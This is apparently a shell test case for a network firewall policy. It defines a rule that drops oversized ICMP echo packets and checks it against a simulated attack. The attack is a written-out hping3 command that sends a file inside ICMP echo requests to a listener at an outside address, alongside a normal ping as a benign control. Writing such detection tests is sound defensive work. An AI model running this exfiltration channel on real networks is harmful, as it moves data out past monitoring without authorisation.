# SPDX-License-Identifier: Apache-2.0
# A channel in ICMP: hping3 carries a file in echo requests to a listener outside. The twin is a ping of the usual size.
technique=T1095 what="a channel in ICMP" rule=large-echo
policy() { cat <<END
weir: 1
$(zones)
rules:
  - name: large-echo
    technique: [T1095]
    match: { from: inside, ip.protocol: icmp, icmp.type: [echo-request, echo-reply], icmp.payload_bytes: 129- }
    action: drop
END
}
servers() {
  printf 'the formula is E=mc2\n%.0s' {1..20} >"$in/srv/formula"
  serve world sh -c 'hping3 -I eth0 --listen MAGIC --icmp >/srv/stolen'
}
attack() {
  : >"$in/srv/stolen"
  at alice timeout 4 hping3 -q --icmp -i u100000 -c 4 -d 200 --sign MAGIC --file /srv/formula 10.77.0.200 || true
  sleep 0.5
  grep -qa 'the formula' "$in/srv/stolen"
}
twin() { at alice ping -c 2 -i 0.2 -W 2 10.77.0.200; }
